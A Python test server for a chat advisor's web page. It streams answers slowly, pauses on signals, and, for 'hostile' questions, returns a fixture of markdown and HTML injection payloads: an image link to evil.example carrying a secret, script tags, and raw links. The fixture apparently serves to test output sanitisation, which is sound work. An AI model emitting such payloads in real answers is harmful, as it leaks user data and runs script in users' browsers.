"""The page over the role guide, whose answers take their time as a chat model's do: python slow_server.py PORT.

From SIGUSR2 to SIGUSR1 no answer is finished and no page gets its examples, so that no test has to be quicker.
"""

from __future__ import annotations

import re
import signal
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import fields

from advisor.answer import Answer, Status
from advisor.assembly import open_shelf
from advisor.follow_up import History
from advisor.library import Within
from advisor.rag import Advisor, Chat
from advisor.reply import Reply
from advisor.web.server import serve

_SLOW = 60  # pieces; three seconds
_HELD_AT = 50  # pieces; beyond the first marker
_going_on = threading.Event()
HOSTILE = (
    "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
    '<img src="https://evil.example/x"> <script>window.hacked = 1</script> \\<script>window.hacked = 2</script> '
    "`![x](https://evil.example/c)` [ref][9] from ~5 to ~10, $$x$$, a\\*b\n\n[ref]: https://evil.example\n"
)


class Slow(Advisor):
    """The advisor, taking its time over the first pieces of an answer."""

    def examples(self, *, within: Within = None) -> tuple[str, ...]:
        _going_on.wait()
        return super().examples(within=within)

    def chat(
        self, history: History = (), *, within: Within = None, length: str = "normal", model: str | None = None
    ) -> SlowChat:
        return SlowChat(self, list(history), within, length, model)


class SlowChat(Chat):
    def stream(self, question: str) -> SlowReply:
        return SlowReply(super().stream(question), question)


class SlowReply:
    def __init__(self, reply: Reply, question: str) -> None:
        hostile = Answer(text=HOSTILE, status=Status.PARTIAL, question=question)
        self.answer = hostile if "hostile" in question else reply.answer
        self.fails = "fail" in question
        self.close = reply.close

    def __iter__(self) -> Iterator[str]:
        for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
            if self.fails and number == 5:
                raise RuntimeError("the model has gone")
            while number == _HELD_AT and not _going_on.wait(0.05):
                yield ""
            time.sleep(0.05 if number < _SLOW else 0)
            yield piece


def main(port: int) -> None:
    """Serve until killed."""
    _going_on.set()
    signal.signal(signal.SIGUSR1, lambda *_: _going_on.set())
    signal.signal(signal.SIGUSR2, lambda *_: _going_on.clear())
    advisor, shelf = open_shelf()
    slow = Slow(**{field.name: getattr(advisor, field.name) for field in fields(advisor)})
    serve(slow, shelf, port=port, open_browser=False)
    slow.close()


if __name__ == "__main__":
    main(int(sys.argv[1]))
